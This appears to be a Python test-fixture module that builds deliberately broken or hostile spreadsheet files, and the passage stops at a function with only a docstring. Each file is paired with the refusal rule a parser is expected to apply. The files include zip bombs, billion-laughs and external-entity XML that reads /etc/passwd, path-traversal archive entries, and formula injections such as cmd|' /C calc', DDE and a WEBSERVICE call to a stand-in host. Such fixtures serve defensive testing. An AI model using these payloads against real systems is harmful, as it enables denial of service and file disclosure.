"""Workbooks that are built to crash, stall, bloat or fool a reader, and odd ones that are only odd.

CASES names each with what must come of it: the rules by which it may be refused, or READ with the
titles of the tasks that must be found. All are made here, small enough to build in a moment.
"""

from __future__ import annotations

import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from functools import partial
from io import BytesIO, RawIOBase
from itertools import product
from pathlib import Path

Parts = dict[str, bytes | str]

READ = "read"
TITLES = ("Rà soát thủ tục", "Niêm yết thủ tục")

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/spreadsheetml/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT_REL = "http://purl.oclc.org/ooxml/officeDocument/relationships"
PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

HEADING = ("TT", "Nhiệm vụ cụ thể", "Đơn vị chủ trì", "Thời gian thực hiện")
ROWS = (
    HEADING,
    ("I", "Cải cách thể chế", "", ""),
    ("1.1", TITLES[0], "Công chức Văn phòng – Thống kê", "30/6/2026"),
    ("1.2", TITLES[1], "Công chức Tư pháp – Hộ tịch", "Quý III/2026"),
)


@dataclass(frozen=True)
class Case:
    """A file: how it is built, under which name it comes, and what may come of it."""

    build: Callable[[], bytes]
    name: str = "phu-luc.xlsx"
    refused: tuple[str, ...] = ()
    titles: tuple[str, ...] = TITLES

    @property
    def is_read(self) -> bool:
        """Whether it must be read."""
        return not self.refused


CASES: dict[str, Case] = {}

Builder = Callable[[], bytes]


def case(
    *refused: str, name: str = "phu-luc.xlsx", titles: tuple[str, ...] = TITLES
) -> Callable[[Builder], Builder]:
    """Enters a builder under its own name."""

    def enter(build: Builder) -> Builder:
        CASES[build.__name__.replace("_", "-")] = Case(build, name, refused, titles)
        return build

    return enter


def enter(
    key: str, build: Builder, *refused: str, name: str = "phu-luc.xlsx", titles: tuple[str, ...] = TITLES
) -> None:
    """Enters one of a family."""
    CASES[key] = Case(build, name, refused, titles)


# ---------------------------------------------------------------- a package


def cell(reference: str, text: str, attributes: str = "") -> str:
    return f'<c r="{reference}" t="inlineStr"{attributes}><is><t>{text}</t></is></c>'


def row_xml(number: int, texts: Iterable[str]) -> str:
    cells = "".join(cell(f"{'ABCDEFGH'[n]}{number}", text) for n, text in enumerate(texts) if text)
    return f'<row r="{number}">{cells}</row>'


BODY = "".join(row_xml(number, texts) for number, texts in enumerate(ROWS, start=1))


def sheet_xml(body: str = BODY, after: str = "", before: str = "", ns: str = NS) -> str:
    return f'{XML}<worksheet xmlns="{ns}">{before}<sheetData>{body}</sheetData>{after}</worksheet>'


def workbook_xml(sheets: str = "", extra: str = "", ns: str = NS, rel: str = REL) -> str:
    sheets = sheets or '<sheet name="Nhiệm vụ" sheetId="1" r:id="rId1"/>'
    return f'{XML}<workbook xmlns="{ns}" xmlns:r="{rel}"><sheets>{sheets}</sheets>{extra}</workbook>'


def rels_xml(targets: Iterable[tuple[str, str, str]], rel: str = REL, more: str = "") -> str:
    nodes = "".join(f'<Relationship Id="{i}" Type="{rel}/{k}" Target="{t}"/>' for i, k, t in targets)
    return f'{XML}<Relationships xmlns="{PACKAGE_REL}">{nodes}{more}</Relationships>'


TYPES = f"""{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/></Types>"""

SHEET = "xl/worksheets/sheet1.xml"
BOOK_RELS = "xl/_rels/workbook.xml.rels"


def parts(sheet: bytes | str = "", more: Mapping[str, bytes | str] | None = None) -> Parts:
    """The parts of a workbook with one sheet; more replaces or adds."""
    usual: Parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": rels_xml([("rId1", "officeDocument", "xl/workbook.xml")]),
        "xl/workbook.xml": workbook_xml(),
        BOOK_RELS: rels_xml([("rId1", "worksheet", "worksheets/sheet1.xml")]),
        SHEET: sheet or sheet_xml(),
    }
    return usual | dict(more or {})


def as_bytes(content: bytes | str) -> bytes:
    return content.encode() if isinstance(content, str) else content


def zipped(content: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    return zipped_all(content.items(), method)


def zipped_all(content: Iterable[tuple[str, bytes | str]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive of the parts in this order, of one name twice if so given."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", method, compresslevel=1) as archive:
        for name, part in content:
            info = zipfile.ZipInfo(name, (2026, 1, 2, 3, 4, 6))
            info.compress_type = method
            # Not writestr(name): it warns of names that occur twice.
            archive.NameToInfo.pop(name, None)
            archive.writestr(info, as_bytes(part))
    return stream.getvalue()


def book(sheet: bytes | str = "", more: Mapping[str, bytes | str] | None = None) -> bytes:
    return zipped(parts(sheet, more))


def noise(size: int, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(size)


# ---------------------------------------------------------------- what is no workbook


FOREIGN = {
    "empty": (b"", "file-empty"),
    "zeros": (bytes(5000), "file-empty"),
    "blanks": (b" \r\n" * 700, "file-empty"),
    "random-bytes": (noise(30_000), "file-not-excel"),
    "csv": ("TT,Nhiệm vụ,Thời hạn\n1,Rà soát,30/6/2026\n".encode(), "file-not-excel"),
    "tsv-utf16": ("TT\tNhiệm vụ\n1\tRà soát\n".encode("utf-16"), "file-not-excel"),
    "png": (b"\x89PNG\r\n\x1a\n" + noise(2000), "file-not-excel"),
    "jpeg": (b"\xff\xd8\xff\xe0" + noise(2000), "file-not-excel"),
    "pdf": (b"%PDF-1.7\n" + noise(2000), "file-not-excel"),
    "rtf": (rb"{\rtf1\ansi Nhi\'ea}", "file-not-excel"),
    "html-as-xls": (b"<html><body><table><tr><td>1</td></tr></table></body></html>", "file-not-excel"),
    "mhtml": (b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", "file-not-excel"),
    "xml-2003": (
        b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "file-not-excel",
    ),
    "program": (b"MZ" + noise(3000), "file-not-excel"),
    "gzip": (b"\x1f\x8b\x08\x00" + noise(300), "file-not-excel"),
    "excel-2": (b"\x09\x00\x04\x00" + noise(300), "file-not-excel"),
    "zip-signature-only": (b"PK\x03\x04", "file-damaged"),
    "zip-end-only": (b"PK\x05\x06" + bytes(18), "file-not-excel"),
    "ole-signature-only": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "file-not-excel"),
    "ole-signature-and-noise": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(9000), "file-not-excel"),
    "21-megabytes": (b"PK\x03\x04" + bytes(21 * 1024 * 1024), "file-too-big"),
}
for _key, (_content, _rule) in FOREIGN.items():
    enter(_key, lambda content=_content: content, _rule)  # type: ignore[misc]


@case("file-not-excel")
def docx_renamed() -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": "<document/>"})


@case("file-not-excel")
def pptx_renamed() -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "ppt/presentation.xml": "<presentation/>"})


@case("file-not-excel")
def zip_of_a_workbook() -> bytes:
    return zipped({"phu-luc.xlsx": book()})


@case("file-not-excel")
def zip_in_zip_in_zip() -> bytes:
    inner = b"0" * 1_000_000
    for _ in range(8):
        inner = zipped({"0.zip": inner})
    return inner


@case("file-not-excel")
def doc_renamed() -> bytes:
    return ole({"WordDocument": noise(5000)})


# ---------------------------------------------------------------- encrypted


@case("file-encrypted")
def encrypted_package() -> bytes:
    return ole({"EncryptedPackage": noise(9000), "EncryptionInfo": noise(500)})


@case("file-encrypted")
def encrypted_zip() -> bytes:
    """The mark of a password on every entry, in the directory and before it."""
    data = bytearray(book())
    for signature, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.find(signature)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(signature, place + 4)
    return bytes(data)


@case("file-encrypted", name="phu-luc.ods")
def encrypted_ods() -> bytes:
    manifest = "<manifest><file-entry><manifest:encryption-data/></file-entry></manifest>"
    return zipped({"mimetype": ODS_TYPE, "content.xml": noise(900), "META-INF/manifest.xml": manifest})


@case("file-encrypted", name="phu-luc.xls")
def encrypted_xls() -> bytes:
    return xls(first=biff(0x002F, b"\1\0\1\0\1\0" + noise(48)))


# ---------------------------------------------------------------- damaged packages


def _cut(share: float) -> bytes:
    data = book()
    return data[: int(len(data) * share)]


for _percent in (1, 10, 25, 50, 75, 90, 97, 99):
    enter(f"cut-at-{_percent}-percent", lambda p=_percent: _cut(p / 100), "file-damaged")  # type: ignore[misc]


def _flipped(seed: int) -> bytes:
    data, chance = bytearray(book()), random.Random(seed)
    for _ in range(40):
        data[chance.randrange(4, len(data))] ^= 1 << chance.randrange(8)
    return bytes(data)


ANY_REFUSAL = (
    *("file-damaged", "file-not-excel", "file-unsafe", "file-encrypted", "file-no-sheet", "file-inflated"),
    "no-task-sheet",
)
for _seed in range(8):
    enter(f"flipped-bits-{_seed}", lambda s=_seed: _flipped(s), *ANY_REFUSAL)  # type: ignore[misc]


@case("file-damaged")
def no_directory() -> bytes:
    data = book()
    return data[: data.find(b"PK\x01\x02")]


@case("file-damaged")
def broken_deflate() -> bytes:
    data = bytearray(book())
    place = data.find(SHEET.encode()) + len(SHEET)
    data[place + 5 : place + 60] = bytes(55)
    return bytes(data)


@case("file-damaged")
def wrong_checksum() -> bytes:
    data = bytearray(book())
    place = data.find(SHEET.encode(), data.find(b"PK\x01\x02")) - 46
    data[place + 16] ^= 0xFF
    return bytes(data)


@case()
def bytes_after_the_end() -> bytes:
    return book() + b"\0" * 400


@case("file-not-excel")
def bytes_before_the_beginning() -> bytes:
    return b"#!/bin/sh\n" + book()


@case()
def long_archive_comment() -> bytes:
    stream = BytesIO(book())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.comment = b"x" * 60_000
    return stream.getvalue()


def lying(size: int) -> bytes:
    """The directory states another size of the sheet than it has."""
    content = sheet_xml(BODY + " " * 3_000_000) if size < 1000 else sheet_xml()
    data = bytearray(book(content))
    place = data.find(SHEET.encode(), data.find(b"PK\x01\x02")) - 46
    data[place + 24 : place + 28] = struct.pack("<I", size)
    return bytes(data)


enter("header-states-less", lambda: lying(500), "file-damaged", "file-inflated")
enter("header-states-more", lambda: lying(0xFFFF_FFF0), "file-damaged", READ)


@case("file-unsafe")
def parts_overlap() -> bytes:
    """Two thousand entries of the directory that all name the same packed bytes."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts().items():
            archive.writestr(name, part)
        archive.writestr("xl/media/0", bytes(400_000))
        first = archive.getinfo("xl/media/0")
        for number in range(1, 900):
            twin = zipfile.ZipInfo(f"xl/media/{number}")
            for what in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(twin, what, getattr(first, what))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
        archive._didModify = True  # type: ignore[attr-defined]
    return stream.getvalue()


@case("file-unsafe")
def part_twice() -> bytes:
    return zipped_all([*parts().items(), (SHEET, sheet_xml(row_xml(1, ("khác",))))])


@case("file-unsafe")
def part_twice_by_case() -> bytes:
    return zipped_all([*parts().items(), (SHEET.upper(), sheet_xml())])


for _key, _name in {
    "path-upwards": "../../etc/cron.d/x",
    "path-upwards-inside": "xl/../../../x",
    "path-backslashes-upwards": "..\\..\\x.bat",
    "path-absolute": "/etc/passwd",
    "path-of-a-drive": "C:\\Windows\\x.dll",
    "path-of-a-host": "\\\\may-chu\\x",
}.items():
    enter(_key, lambda n=_name: zipped_all([*parts().items(), (n, b"x")]), "file-unsafe")  # type: ignore[misc]


@case()
def names_with_backslashes() -> bytes:
    return zipped({name.replace("/", "\\"): part for name, part in parts().items()})


@case("file-unsafe")
def packed_by_bzip2() -> bytes:
    return zipped(parts(), zipfile.ZIP_BZIP2)


@case("file-unsafe")
def packed_by_lzma() -> bytes:
    return zipped(parts(), zipfile.ZIP_LZMA)


@case("file-inflated")
def three_thousand_parts() -> bytes:
    return zipped(parts(more={f"xl/media/{n}": b"" for n in range(3000)}))


@case("file-inflated", "file-damaged")
def directory_of_400_000() -> bytes:
    entry = b"PK\x01\x02" + bytes(24) + struct.pack("<H", 1) + bytes(16) + b"x"
    directory = entry * 400_000
    end = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 0xFFFE, 0xFFFE, len(directory), 4, 0)
    return b"PK\x03\x04" + directory + end


# ---------------------------------------------------------------- bombs


def _deflated(*pieces: tuple[bytes, int]) -> tuple[bytes, int, int]:
    """Packed bytes, size and checksum of pieces that are each repeated: without building them whole."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    packed, size, checksum = [], 0, 0
    for piece, times in pieces:
        block = piece * max(1, min(times, 1_000_000 // len(piece)))
        for _ in range(max(1, times * len(piece) // len(block))):
            packed.append(packer.compress(block))
            size, checksum = size + len(block), zlib.crc32(block, checksum)
    return b"".join([*packed, packer.flush()]), size, checksum


def bomb(*pieces: tuple[bytes, int], part: str = SHEET) -> bytes:
    """A workbook of which one part is such pieces between the usual beginning and end."""
    packed, size, checksum = _deflated(*pieces)
    others = {name: content for name, content in parts().items() if name != part}
    stream = BytesIO(zipped(others))
    with zipfile.ZipFile(stream, "a") as archive:
        info = zipfile.ZipInfo(part)
        info.compress_type, info.header_offset = zipfile.ZIP_DEFLATED, archive.start_dir
        info.CRC, info.compress_size, info.file_size = checksum, len(packed), size
        stream.seek(info.header_offset)
        stream.write(info.FileHeader() + packed)
        archive.start_dir = stream.tell()
        archive.filelist.append(info)
        archive._didModify = True  # type: ignore[attr-defined]
    return stream.getvalue()


START, END = sheet_xml("").encode().split(b"</sheetData>")
END = b"</sheetData>" + END
ONCE = 1


@case("file-inflated", "file-unsafe")
def bomb_of_one_string() -> bytes:
    begin, end = b'<row r="1"><c r="A1" t="inlineStr"><is><t>', b"</t></is></c></row>"
    return bomb((START + begin, ONCE), (b"x", 70_000_000), (end + END, ONCE))


@case("file-inflated", "file-unsafe")
def bomb_of_blanks() -> bytes:
    return bomb((START, ONCE), (b" ", 170_000_000), (BODY.encode() + END, ONCE))


@case("file-inflated")
def bomb_of_cells() -> bytes:
    """Just more than a sheet may inflate to."""
    return bomb((START + b'<row r="1">', ONCE), (b"<c><v>1</v></c>", 4_700_000), (b"</row>" + END, ONCE))


@case("file-inflated", "file-unsafe")
def bomb_of_one_attribute() -> bytes:
    return bomb((START + b'<row r="1" x="', ONCE), (b"a", 50_000_000), (b'"/>' + END, ONCE))


@case("file-inflated")
def bomb_of_shared_strings() -> bytes:
    begin = f'{XML}<sst xmlns="{NS}">'.encode()
    pieces = ((begin, ONCE), (b"<si><t>x</t></si>", 4_200_000), (b"</sst>", ONCE))
    return bomb(*pieces, part="xl/sharedStrings.xml")


@case("file-inflated")
def bomb_of_styles() -> bytes:
    begin = f'{XML}<styleSheet xmlns="{NS}"><cellXfs>'.encode()
    pieces = ((begin, ONCE), (b'<xf numFmtId="14"/>', 1_000_000), (b"</cellXfs></styleSheet>", ONCE))
    return bomb(*pieces, part="xl/styles.xml")


@case("file-inflated")
def bomb_in_a_picture() -> bytes:
    return bomb((b"\x89PNG", ONCE), (b"\0", 200_000_000), part="xl/media/image1.png")


@case("file-inflated")
def bomb_of_blank_cells() -> bytes:
    cells = (b'<c r="A1" s="1"/>', 10_000_000)
    return bomb((START + b'<row r="1">', ONCE), cells, (b"</row>" + END, ONCE))


@case("file-inflated", name="phu-luc.ods")
def bomb_in_ods() -> bytes:
    content = b"<x>" + b"<p>1</p>" * 10_000_000
    return zipped({"mimetype": ODS_TYPE, "content.xml": content})


@case("file-unsafe")
def attribute_of_10_megabytes() -> bytes:
    """Too noisy for the ratio, and enough to keep an old expat busy for long."""
    return book(sheet_xml(f'<row r="1" x="{noise(5_000_000).hex()}"/>{BODY}'))


@case()
def small_part_packed_tightly() -> bytes:
    return book(more={"xl/theme/theme1.xml": f"<theme>{'<a/>' * 200_000}</theme>"})


# ---------------------------------------------------------------- XML


LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha ha ha ha ha ha ha ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "' + f"&{chr(97 + n)};" * 10 + '">' for n in range(9)
)


def with_dtd(dtd: str, text: str = "x") -> str:
    return sheet_xml(row_xml(1, (text,))).replace("<worksheet", f"{dtd}<worksheet", 1)


enter("billion-laughs", lambda: book(with_dtd(LAUGHS + "]>", "&j;")), "file-unsafe")
enter(
    "external-entity",
    lambda: book(with_dtd('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;")),
    "file-unsafe",
)
enter("empty-doctype", lambda: book(with_dtd("<!DOCTYPE worksheet>")), "file-unsafe")
enter("doctype-behind-a-comment", lambda: book(with_dtd("<!-- <w> --><?x y?><!DOCTYPE w []>")), "file-unsafe")
enter(
    "doctype-in-utf-16",
    lambda: book(with_dtd(LAUGHS + "]>", "&j;").replace("UTF-8", "UTF-16").encode("utf-16")),
    "file-unsafe",
)
enter(
    "doctype-in-relations",
    lambda: book(more={"_rels/.rels": parts()["_rels/.rels"].replace("<Rel", "<!DOCTYPE r []><Rel", 1)}),  # type: ignore[arg-type]
    "file-unsafe",
)
enter(
    "doctype-in-a-part-without-ending",
    lambda: book(more={"xl/embeddings/x.bin": with_dtd(LAUGHS + "]>", "&j;")}),
    "file-unsafe",
)
enter("comment-before-all", lambda: book(with_dtd(f"<!--{noise(700_000).hex()}-->")), "file-unsafe")


@case("file-damaged", "file-unsafe", "file-too-slow", "file-needs-memory", "file-no-sheet", "no-task-sheet")
def deeply_nested_sheet() -> bytes:
    return book(sheet_xml("<a>" * 300_000))


@case("file-damaged", "file-needs-memory", "file-no-sheet", READ)
def deeply_nested_cell() -> bytes:
    return book(sheet_xml(BODY + '<row r="9"><c r="A9">' + "<a>" * 120_000 + "</a>" * 120_000 + "</c></row>"))


@case("file-damaged", "file-no-sheet")
def deeply_nested_workbook() -> bytes:
    return book(more={"xl/workbook.xml": workbook_xml("<a>" * 100_000 + "</a>" * 100_000)})


@case("file-damaged")
def sheet_cut_in_a_tag() -> bytes:
    return book(sheet_xml()[:-200])


@case("file-damaged")
def zero_byte_in_text() -> bytes:
    return book(sheet_xml(BODY + cell("A9", "a\0b")))


@case("file-damaged")
def bad_utf_8() -> bytes:
    return book(sheet_xml().encode().replace("ủ".encode(), b"\xff\xfe"))


@case("file-damaged")
def unknown_encoding() -> bytes:
    return book(sheet_xml().replace("UTF-8", "x-la"))


@case()
def utf_16_everywhere() -> bytes:
    return zipped({n: str(p).replace('"UTF-8"', '"UTF-16"').encode("utf-16") for n, p in parts().items()})


@case()
def byte_order_mark() -> bytes:
    return zipped({name: "\ufeff" + str(part) for name, part in parts().items()})


@case()
def prefixed_names() -> bytes:
    text = sheet_xml().replace("xmlns=", "xmlns:x=").replace("</", "</x:").replace("<", "<x:")
    return book(text.replace("<x:/x:", "</x:").replace("<x:?", "<?"))


@case()
def strict_workbook() -> bytes:
    return book(
        sheet_xml(ns=STRICT),
        {
            "_rels/.rels": rels_xml([("rId1", "officeDocument", "xl/workbook.xml")], STRICT_REL),
            "xl/workbook.xml": workbook_xml(ns=STRICT, rel=STRICT_REL),
            BOOK_RELS: rels_xml([("rId1", "worksheet", "worksheets/sheet1.xml")], STRICT_REL),
        },
    )


# ---------------------------------------------------------------- sheets and cells


def sheet_case(
    key: str,
    body: str = BODY,
    after: str = "",
    before: str = "",
    *refused: str,
    titles: tuple[str, ...] = TITLES,
) -> None:
    enter(key, lambda: book(sheet_xml(body, after, before)), *refused, titles=titles)


sheet_case("value-in-the-last-row", BODY + f'<row r="1048576">{cell("A1048576", "x")}</row>')
sheet_case("value-in-the-last-column", BODY + f'<row r="9">{cell("XFD9", "x")}</row>')
sheet_case("format-in-the-last-cell", BODY + '<row r="1048576"><c r="XFD1048576" s="0"/></row>')
sheet_case("dimension-lies", BODY, "", '<dimension ref="A1:XFD1048576"/>')
sheet_case("dimension-lies-small", BODY, "", '<dimension ref="A1"/>')
DAMAGED = ("", "", "file-damaged")
HIDE_ALL = '<col min="1" max="16384" hidden="1"/>'
MERGE_ALL = '<mergeCell ref="A9:XFD1048576"/>'
sheet_case("row-beyond-the-last", BODY + f'<row r="99">{cell("A1048577", "x")}</row>', *DAMAGED)
sheet_case("column-beyond-the-last", BODY + f'<row r="9">{cell("XFE9", "x")}</row>', *DAMAGED)
sheet_case("row-zero", BODY + f'<row r="0">{cell("A0", "x")}</row>', *DAMAGED)
sheet_case("row-of-a-million-digits", BODY + f'<row r="{"9" * 1_000_000}"/>', *DAMAGED)
sheet_case("row-number-not-a-number", BODY + '<row r="nan"/>', *DAMAGED)
sheet_case("merge-of-everything-below", after='<mergeCells><mergeCell ref="A9:XFD1048576"/></mergeCells>')
sheet_case(
    "ten-thousand-merges-of-everything",
    BODY,
    "<mergeCells>" + MERGE_ALL * 10_000 + "</mergeCells>",
    "",
    "file-damaged",
)
sheet_case("all-columns-hidden-often", before="<cols>" + HIDE_ALL * 900 + "</cols>")
sheet_case(
    "column-groups-without-end",
    BODY,
    "",
    "<cols>" + HIDE_ALL * 20_000 + "</cols>",
    "file-damaged",
)
sheet_case("shared-string-not-there", BODY + '<row r="9"><c r="B9" t="s"><v>4000000000</v></c></row>')
sheet_case("shared-string-negative", BODY + '<row r="9"><c r="B9" t="s"><v>-1</v></c></row>')
sheet_case("style-not-there", BODY + '<row r="9"><c r="E9" s="4000000000"><v>1</v></c></row>')
sheet_case(
    "numbers-of-no-number",
    BODY
    + "".join(
        f'<row r="{n}"><c r="F{n}"><v>{text}</v></c></row>'
        for n, text in enumerate(
            ("nan", "inf", "1e999", "1_000", "0x10", "--1", "9" * 5000, "1" * 400), start=9
        )
    ),
)
sheet_case(
    "cell-kinds-of-no-kind",
    BODY + '<row r="9"><c r="F9" t="zzz"><v>1</v></c><c r="G9" t="d"><v>x</v></c></row>',
)
sheet_case("lone-surrogates", BODY + f'<row r="9">{cell("F9", "a_xD800_b_xDFFF_")}</row>')
sheet_case("escaped-controls", BODY + f'<row r="9">{cell("F9", "a_x0000_b_x001B_[31m")}</row>')
FORMULAS = (
    "cmd|' /C calc'!A0",
    "WEBSERVICE(&quot;http://vi-du.test/&quot;&amp;A1)",
    "HYPERLINK(&quot;javascript:alert(1)&quot;,&quot;x&quot;)",
    "[1]Sheet1!A1",
    "DDE(&quot;a&quot;,&quot;b&quot;,&quot;c&quot;)",
    "RTD(&quot;x&quot;,,&quot;y&quot;)",
    "(" * 5000 + ")" * 5000,
)
sheet_case(
    "formulas-that-reach-outside",
    BODY
    + "".join(
        f'<row r="{n}"><c r="H{n}"><f>{formula}</f></c></row>' for n, formula in enumerate(FORMULAS, start=9)
    ),
)
sheet_case(
    "shared-formula-of-itself",
    BODY
    + "".join(
        f'<row r="{n}"><c r="H{n}"><f t="shared" si="0" ref="H9:H3000">H{n}+H{n + 1}</f></c></row>'
        for n in range(9, 3000)
    ),
)
sheet_case("cells-twice", BODY + row_xml(3, ("1.1", "Việc khác", "", "1/1/2020")))
sheet_case("rows-upside-down", "".join(row_xml(n, ROWS[n - 1]) for n in (4, 3, 2, 1)))
sheet_case(
    "hostile-words",
    BODY
    + row_xml(5, ("1.3", "&lt;script&gt;alert(1)&lt;/script&gt; **đậm** $x$ :red[x] =1+1", "", "30/6/2026")),
    titles=(*TITLES, "<script>alert(1)</script> **đậm** $x$ :red[x] =1+1"),
)
sheet_case(
    "characters-nobody-sees",
    BODY + row_xml(5, ("1.3", "Công\u200b khai\u202e thủ\u00ad\ufeff tục", "", "30/6/2026")),
    titles=(*TITLES, "Công khai thủ tục"),
)


def blank_rows(count: int, columns: int) -> bytes:
    cells = [f'<c r="{chr(65 + n)}%d" s="1"/>' for n in range(columns)]
    one = '<row r="%d" spans="1:15" s="1" customFormat="1" ht="15">' + "".join(cells) + "</row>"
    rows = "".join(one % ((n,) * (columns + 1)) for n in range(5, count))
    styles = f'{XML}<styleSheet xmlns="{NS}"><cellXfs><xf/><xf numFmtId="14"/></cellXfs></styleSheet>'
    return book(sheet_xml(BODY + rows), {"xl/styles.xml": styles})


enter("200,000-blank-rows-of-15-columns", lambda: blank_rows(200_000, 15))
enter("200,000-rows-without-cells", lambda: book(sheet_xml(BODY + "<row/>" * 200_000)))


@case("file-too-big", "file-needs-memory", "file-too-slow")
def more_than_a_million_cells() -> bytes:
    digits = noise(4_500_000).hex()
    cells = [f"<c><v>{int(digits[n : n + 8], 16)}</v></c>" for n in range(0, len(digits) - 8, 8)]
    rows = ("".join(cells[n : n + 50]) for n in range(0, len(cells), 50))
    return book(sheet_xml("<row>" + "</row><row>".join(rows) + "</row>"))


@case()
def fifty_thousand_styles() -> bytes:
    chance = random.Random(2)
    kinds = "".join(f'<xf numFmtId="{chance.randrange(10**9)}"/>' for _ in range(50_000))
    return book(
        more={"xl/styles.xml": f'{XML}<styleSheet xmlns="{NS}"><cellXfs>{kinds}</cellXfs></styleSheet>'}
    )


@case()
def two_hundred_thousand_merges() -> bytes:
    merges = "".join(f'<mergeCell ref="A{n}:B{n + 1}"/>' for n in range(9, 200_000))
    return book(sheet_xml(after=f"<mergeCells>{merges}</mergeCells>"))


@case()
def formats_without_end() -> bytes:
    code = "[$-" * 20_000
    formats = f'<numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
    styles = f'{XML}<styleSheet xmlns="{NS}">{formats}<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    return book(sheet_xml(BODY + '<row r="9"><c r="F9" s="0"><v>5</v></c></row>'), {"xl/styles.xml": styles})


@case()
def broken_styles() -> bytes:
    return book(more={"xl/styles.xml": "<styleSheet><cellXfs>"})


@case()
def sheet_name_with_controls() -> bytes:
    name = "Nhiệm\u200b v\u202eụ &lt;b&gt;"
    return book(more={"xl/workbook.xml": workbook_xml(f'<sheet name="{name}" sheetId="1" r:id="rId1"/>')})


# ---------------------------------------------------------------- workbooks and relations


@case("file-no-sheet", "file-damaged")
def no_sheets() -> bytes:
    return book(more={"xl/workbook.xml": workbook_xml("<!-- -->")})


@case()
def twenty_thousand_sheets() -> bytes:
    """All but one have no part, or all the same."""
    sheets = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, 20_001))
    return book(more={"xl/workbook.xml": workbook_xml(sheets)})


@case()
def one_part_as_thousands_of_sheets() -> bytes:
    sheets = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 1_001))
    return book(more={"xl/workbook.xml": workbook_xml(sheets)})


@case("file-no-sheet", "file-damaged")
def sheet_part_missing() -> bytes:
    return zipped({name: part for name, part in parts().items() if name != SHEET})


@case("file-damaged", "file-no-sheet")
def workbook_part_missing() -> bytes:
    return zipped({name: part for name, part in parts().items() if name != "xl/workbook.xml"})


def target(path: str, more: str = "") -> bytes:
    return book(more={BOOK_RELS: rels_xml([("rId1", "worksheet", path)], more=more)})


enter("target-absolute", lambda: target("/xl/worksheets/sheet1.xml"))
enter("target-with-detours", lambda: target("../xl/./worksheets/../worksheets/sheet1.xml"))
NO_SHEET = ("file-no-sheet", "file-damaged", "file-unsafe")
enter("target-outside", lambda: target("../../../../etc/passwd"), *NO_SHEET)
enter("target-of-a-host", lambda: target("file://may-chu/x.xml"), *NO_SHEET)
enter("target-the-workbook-itself", lambda: target("workbook.xml"), *NO_SHEET)
enter("target-its-own-relations", lambda: target("_rels/workbook.xml.rels"), *NO_SHEET)


@case()
def relations_in_a_circle() -> bytes:
    circle = rels_xml([("rId1", "worksheet", "sheet1.xml"), ("rId2", "officeDocument", "../workbook.xml")])
    return book(more={"xl/worksheets/_rels/sheet1.xml.rels": circle})


@case()
def external_links() -> bytes:
    link = (
        '<Relationship Id="rId9" Type="x/externalLink" Target="http://vi-du.test/a" TargetMode="External"/>'
    )
    return target("worksheets/sheet1.xml", link)


@case()
def macros_in_xlsx() -> bytes:
    return book(more={"xl/vbaProject.bin": ole({"VBA": noise(5000)})})


enter("xlsm-named-xls", macros_in_xlsx, name="phu-luc.xls")
enter("xlsx-without-an-ending", book, name="phu-luc")


@case()
def names_without_end() -> bytes:
    names = "".join(f'<definedName name="n{n}">A{n}</definedName>' for n in range(50_000))
    return book(more={"xl/workbook.xml": workbook_xml(extra=f"<definedNames>{names}</definedNames>")})


# ---------------------------------------------------------------- as other programs write


class _Pipe(RawIOBase):
    """A stream that cannot go back: zip archives written to one have their sizes behind the parts."""

    def __init__(self) -> None:
        self.content = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data: object) -> int:
        piece = bytes(data)  # type: ignore[call-overload]
        self.content += piece
        return len(piece)


def streamed(*, large: bool = False) -> bytes:
    """A workbook zipped on the way out; large: with the fields of archives beyond 4 GB."""
    pipe = _Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts().items():
            with archive.open(name, "w", force_zip64=large) as entry:
                entry.write(as_bytes(part))
    return bytes(pipe.content)


enter("zip-streamed", streamed)
enter("zip-streamed-with-large-fields", lambda: streamed(large=True))
enter("zip-not-packed", lambda: zipped(parts(), zipfile.ZIP_STORED))
enter("zip-with-folders", lambda: zipped({"xl/": b"", "xl/worksheets/": b"", **parts()}))
enter("zip-with-zeros-behind", lambda: book() + bytes(1000))


def written(strings: str, prefix: str = "", *, addresses: bool = True, strict: bool = False) -> bytes:
    """A workbook with its texts shared, rich, inline or as results of formulas; elements with a prefix or
    without; cells with their addresses or in order only; Strict or Transitional."""
